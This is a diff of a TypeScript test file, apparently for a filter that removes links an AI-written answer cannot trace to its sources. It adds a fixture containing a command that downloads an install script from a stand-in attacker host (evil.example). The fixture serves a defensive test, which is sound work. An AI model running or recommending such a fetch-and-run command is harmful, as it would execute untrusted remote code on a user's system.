@@ -171,29 +171,25 @@ describe("an answer with code that the sources hold", () => {
     ..."` `` ``` ```` ~~~ ~~~~ ``~ | \\` \\ - 1. > # === --- a b https://evil.example www.evil.example evil.com <b> </b> [x](`a` ![` ] ) ](".split(
       " ",
     ),
-    ...[
-      "\n",
-      "\n",
-      "\n",
-      " ",
-      " ",
-      "   ",
-      "    ",
-      "\n\n",
-      "\r",
-      "\t",
-      "\n```\n",
-      "\n~~~\n",
-      "\n  ```\n  ",
-      "\n- ",
-      "\n> ",
-    ],
-    ...[
-      "\n- a\n  ```\n  b\n  ```\n",
-      "| a |\n| - |\n| `b | c` |\n",
-      "`a` `b`",
-      "`https://evil.example`",
-    ],
+    "\n",
+    "\n",
+    "\n",
+    " ",
+    " ",
+    "   ",
+    "    ",
+    "\n\n",
+    "\r",
+    "\t",
+    "\n```\n",
+    "\n~~~\n",
+    "\n  ```\n  ",
+    "\n- ",
+    "\n> ",
+    "\n- a\n  ```\n  b\n  ```\n",
+    "| a |\n| - |\n| `b | c` |\n",
+    "`a` `b`",
+    "`https://evil.example`",
   ];
   const code = fc
     .array(fc.constantFrom(...CODE), { minLength: 1, maxLength: 16 })
@@ -205,7 +201,7 @@ describe("an answer with code that the sources hold", () => {
         const shown = filteredAs(whole, [whole], () => true);
         expect(refusedLinks(shown, mayLinkTo, linksOutsideCode(shown)), shown).toEqual([]);
       }),
-      { numRuns: 120000 },
+      { numRuns: 2000 },
     );
   }, 400_000);
 
@@ -229,6 +225,17 @@ describe("an answer with code that the sources hold", () => {
   ])("keeps it as it is: %j", (answer) => {
     expect(filteredAs(answer, [answer], () => true)).toBe(answer);
     expect(filteredAs(answer, Array.from(answer), () => true)).toBe(answer);
+  });
+
+  it("quotes a command of a source with its address, and no other address", () => {
+    const text = "Run `curl https://evil.example/install.sh` first. See https://evil.example/more.";
+    const passages = [{ chunkId: 1, ordinal: 0, headingPath: [], text }];
+    const source = { n: 1, externalId: "a", title: "A", url: null, version: 1, passages };
+    const writer = new AnswerWriter([source], mayLinkTo);
+    const shown = writer.push(`${text} \`https://evil.example/other\``) + writer.end();
+    expect(shown).toBe(
+      "Run `curl https://evil.example/install.sh` first. See ‹link removed›. `‹link removed›`",
+    );
   });
 
   it("loses addresses in code that no source holds, and addresses outside code", () => {
